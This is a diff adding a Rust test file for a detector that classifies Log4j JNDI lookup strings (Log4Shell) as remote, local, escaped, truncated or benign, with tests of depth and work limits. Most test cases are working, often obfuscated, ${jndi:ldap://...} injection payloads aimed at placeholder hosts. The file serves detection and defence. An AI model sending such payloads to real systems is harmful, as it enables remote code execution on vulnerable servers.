@@ -1,0 +1,114 @@
+//! The table of the library's verdicts, the limits, and the relaxations.
+
+use super::*;
+
+fn remote(text: &str) -> bool {
+    evaluate(text).verdict == Verdict::EffectiveRemote
+}
+
+#[test]
+fn what_the_library_looks_up() {
+    for text in [
+        "$${jndi:ldap://x/a} ${",
+        "${jndi:ldap://x/a} ${b",
+        "${jndi:ldap://y/a}${b:-${b}}",
+        "${lower:$}{jndi:ldap://x/a} ${",
+        "${lower:$${jndi:ldap://x/a}}",
+        "${LOWER:${JNDI:ldap://x/a}}",
+        "${${a:\\-b:-jndi}:ldap://x/a}",
+        "${jnd${upper:\u{131}}:ldap://x}",
+        "${}${jndi:ldap://x}",
+        "${${date:'j'}ndi:ldap://x}",
+        "${${date:}jndi:ldap://x}",
+        "${${::-j}${::-n}${::-d}${::-i}:${env:NO:-l}dap://x/a}",
+    ] {
+        assert!(remote(text), "{text}");
+    }
+}
+
+#[test]
+fn what_the_library_leaves_alone() {
+    for text in [
+        "$${jndi:ldap://x/a}",
+        "$$${jndi:ldap://x/a}",
+        "$$$${jndi:ldap://x/a}",
+        "${b ${jndi:ldap://x/a}",
+        "${${lower:jndi}:ldap://x/a",
+        "${b:-${b}}${jndi:ldap://x/a}",
+        "${lower:$}{jndi:ldap://x/a}",
+        "${jndi:-ldap://x/a}",
+        "${jnd${lower:\u{130}}:ldap://x}",
+        "${jndi :ldap://x}",
+        "${ jndi:ldap://x}",
+        "${${}jndi:ldap://x}",
+        "${${date:''}jndi:ldap://x}",
+        "${${date:'j'n}di:ldap://x}",
+        "${foo:jndi:ldap://x}",
+        "${ctx:jndi:ldap://x}",
+        "${base64:JHtqbmRpOmxkYXA6Ly94L2F9}",
+        "jndi:ldap://x/a",
+        "$ {jndi:ldap://x/a}",
+    ] {
+        assert!(!remote(text), "{text}");
+    }
+}
+
+#[test]
+fn keys_and_exceptions() {
+    let evaluation = evaluate("${jndi:\\-ldap:-x}");
+    assert_eq!(evaluation.keys, ["ldap"]);
+    assert_eq!(evaluation.verdict, Verdict::EffectiveLocal);
+    let evaluation = evaluate("${jndi:ldap://y/a}${b:-${b}}");
+    assert_eq!((evaluation.keys, evaluation.raised), (vec!["ldap://y/a".to_owned()], true));
+    let evaluation = evaluate("${b:-${b}}${jndi:ldap://x/a}");
+    assert_eq!((evaluation.keys.len(), evaluation.raised), (0, true));
+    let evaluation = evaluate("${jndi:ldap://${env:A:-h}/${lower:Q}}");
+    assert_eq!(evaluation.keys, ["ldap://h/q"]);
+}
+
+#[test]
+fn verdicts_below_remote() {
+    for (text, verdict) in [
+        ("${jndi:java:comp/env/x}", "effective/local"),
+        ("${jndi:mail/Session}", "effective/local"),
+        ("${jndi:ldap://x/a", "attempt/truncated"),
+        ("${b ${jndi:ldap://x/a}", "attempt/truncated"),
+        ("$${jndi:ldap://x/a}", "attempt/escaped"),
+        ("${ jndi :ldap://x/a}", "attempt/spaced"),
+        ("${base64:JHtqbmRpOmxkYXA6Ly94L2F9}", "attempt/base64"),
+        ("${jndi:-ldap://x/a}", "benign"),
+        ("${PATH} and ${HOME:-/root}", "benign"),
+        ("if ($a == \"${b}\") { ldap jndi rmi }", "benign"),
+    ] {
+        assert_eq!(evaluate(text).verdict.as_str(), verdict, "{text}");
+    }
+}
+
+#[test]
+fn depth_is_bounded_and_never_benign() {
+    let nested = |depth: usize| {
+        format!("{}jndi{}", "${".repeat(depth), ":ldap://x/a}".to_owned() + &"}".repeat(depth - 1))
+    };
+    assert_eq!(evaluate(&nested(EVAL_DEPTH_MAX - 10)).raised, false);
+    assert_ne!(evaluate(&nested(1_000)).verdict, Verdict::Attempt(Why::OverLimit));
+    let over = evaluate(&nested(EVAL_DEPTH_MAX + 1));
+    assert_eq!(over.verdict, Verdict::Attempt(Why::OverLimit));
+    let hidden = format!("{}${{jndi:ldap://x/a}}{}", "${lower:".repeat(1_000), "}".repeat(1_000));
+    assert!(!matches!(evaluate(&hidden).verdict, Verdict::Benign));
+}
+
+#[test]
+fn work_is_bounded_and_never_benign() {
+    // Each level copies and scans all that it encloses: the square of the length.
+    let text = format!("{}{}", "${a".repeat(1_900), "}".repeat(1_900)) + &"x".repeat(60_000);
+    let text = format!("${{{}{}}}", "${::-a}".repeat(9_000), &text[..text.len().min(9_000)]);
+    let evaluation = evaluate(&text);
+    assert!(evaluation.steps <= EVAL_WORK_MAX + 2 * text.len() as u64);
+    assert_eq!(evaluation.verdict, Verdict::Attempt(Why::OverLimit));
+}
+
+#[test]
+fn unclosed_counts_only_what_is_open() {
+    let count = |text: &str| unclosed(&text.chars().collect::<Vec<_>>());
+    assert_eq!([count("${a ${b"), count("} ${a"), count("${a}"), count("{a")], [2, 1, 0, 0]);
+}
